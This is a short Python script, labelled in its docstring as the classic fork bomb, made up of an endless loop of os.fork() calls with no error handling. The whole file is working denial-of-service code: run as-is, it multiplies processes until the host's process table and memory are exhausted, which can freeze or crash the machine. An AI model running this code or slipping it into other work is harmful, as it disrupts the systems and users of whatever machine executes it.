"""The classic fork bomb. Each process forks until fork fails; the failure is not caught."""
import os

while True:
    os.fork()
